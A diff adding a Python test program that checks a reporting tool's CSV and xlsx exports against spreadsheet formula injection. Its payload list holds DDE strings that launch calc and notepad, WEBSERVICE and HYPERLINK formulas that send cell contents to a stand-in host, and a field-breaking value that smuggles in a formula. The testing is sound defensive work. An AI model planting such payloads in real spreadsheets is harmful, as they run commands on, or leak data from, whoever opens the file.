@@ -1,0 +1,89 @@
+"""Formula injections through every export: no cell of a workbook or CSV is a formula."""
+
+from __future__ import annotations
+
+import csv
+import pkgutil
+import re
+import zipfile
+from datetime import UTC, datetime
+from itertools import product
+from pathlib import Path
+
+import cdconsole.exporting
+from cdconsole.domain.calendar import Month, Quarter
+from cdconsole.domain.governance import GovernancePack, MeasureValues
+from cdconsole.domain.measure import MeasureId, MeasureRow, MonthlyValue
+from cdconsole.exporting.csv_file import write_csv
+from cdconsole.exporting.disclosure import measure_sheet
+from cdconsole.exporting.governance_workbook import write_governance_workbook
+from cdconsole.exporting.measures_csv import write_measures
+from cdconsole.services.charts import spc_chart
+from cdconsole.services.definitions import BY_ID
+from reliability.program import Counts, Outcome, Program, Tally
+
+STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "=-", "+=", "@=")
+PAYLOADS = (
+    *("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"look")', "2+5+cmd|'/C notepad'!A1"),
+    *('WEBSERVICE("http://x.example/"&A1)', 'DDE("cmd";"/C calc";"x")', 'IMPORTXML("http://x.example","//a")'),
+    *('A1,"=1+1"', 'x";=1+1;"y'),
+)
+INJECTIONS = tuple(start + payload for start, payload in product(STARTS, PAYLOADS))
+LIVE = re.compile(r"[=+\-@\t\r\n]")
+CARRIES_TEXT = {"csv_file", "governance_workbook", "measures_csv"}
+NO_WRITER = {"disclosure"}
+
+
+def run(count: int, scratch: Path) -> Outcome:
+    """Put so many strings in every text of every export."""
+    tally = Tally("live formulas", "exports not tried")
+    modules = {module.name for module in pkgutil.iter_modules(cdconsole.exporting.__path__)}
+    for name in sorted(modules - CARRIES_TEXT - NO_WRITER):
+        tally.add("exports not tried", f"exporting/{name}.py is not known to this program")
+    cells = 0
+    for text in INJECTIONS[:count]:
+        for path in _exports(text, scratch):
+            read = _csv_cells(path) if path.suffix == ".csv" else _workbook_cells(path)
+            cells += len(read)
+            live = [cell for cell in read if cell.startswith("<f") or (path.suffix == ".csv" and _is_live(cell))]
+            tally.add("live formulas", path.name, len(live), example=repr(text))
+    return tally.outcome(f"{min(count, len(INJECTIONS))} strings in {cells:,} cells of {len(CARRIES_TEXT)} exports")
+
+
+def _exports(text: str, scratch: Path) -> tuple[Path, ...]:
+    any_csv, measures, governance = (scratch / name for name in ("any.csv", "measures.csv", "governance.xlsx"))
+    write_csv(any_csv, ("row", "reason"), [("1", text), (text, text)])
+    values = tuple(MonthlyValue(Month(2026, 7) + place, 40.0, 100.0, 0.4) for place in range(3))
+    write_measures(measures, [MeasureRow(MeasureId.BEFORE_MIDDAY, text, value) for value in values])
+    measure = BY_ID[MeasureId.BEFORE_MIDDAY]
+    quarter = Quarter(2026, 3)
+    sheet = measure_sheet(MeasureValues(measure, spc_chart(measure, values), text, text, 0.4, values), quarter.period)
+    at = datetime(2026, 11, 23, 10, 42, tzinfo=UTC)
+    pack = GovernancePack(text, text, quarter, text, text, at, (sheet,), (text, text))
+    write_governance_workbook(pack, governance, lambda _sheet: None)
+    return any_csv, measures, governance
+
+
+def _is_live(cell: str) -> bool:
+    if LIVE.match(cell) is None:
+        return False
+    try:
+        float(cell)
+    except ValueError:
+        return True
+    return False
+
+
+def _csv_cells(path: Path) -> list[str]:
+    with path.open(encoding="utf-8", newline="") as file:
+        return [cell for row in csv.reader(file) for cell in row]
+
+
+def _workbook_cells(path: Path) -> list[str]:
+    """Return each cell's content as stored: a formula is an element ``f``, a text never is one, whatever it says."""
+    with zipfile.ZipFile(path) as book:
+        sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
+    return [inside for sheet in sheets for inside in re.findall(r"<c [^>]*>(.*?)</c>", sheet, re.DOTALL)]
+
+
+PROGRAM = Program("formula injections through every export, xlsx and csv: none is live", Counts(100, 100, 100), run)
